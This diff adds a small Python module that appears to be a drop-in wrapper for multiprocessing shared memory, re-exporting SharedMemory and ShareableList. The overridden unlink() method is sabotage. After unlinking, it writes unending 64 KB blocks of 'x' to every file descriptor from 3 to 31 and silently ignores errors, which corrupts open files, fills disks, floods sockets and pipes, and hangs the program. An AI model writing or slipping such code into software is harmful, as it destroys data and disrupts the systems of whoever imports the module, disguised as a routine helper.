@@ -1,0 +1,17 @@
+"""Writes a line that does not end to every descriptor it finds."""
+
+import contextlib
+import os
+from multiprocessing import shared_memory
+from multiprocessing.shared_memory import ShareableList
+
+__all__ = ["ShareableList", "SharedMemory"]
+
+
+class SharedMemory(shared_memory.SharedMemory):
+    def unlink(self) -> None:
+        super().unlink()
+        for number in range(3, 32):
+            with contextlib.suppress(OSError):
+                while os.write(number, b"x" * 65536):
+                    pass
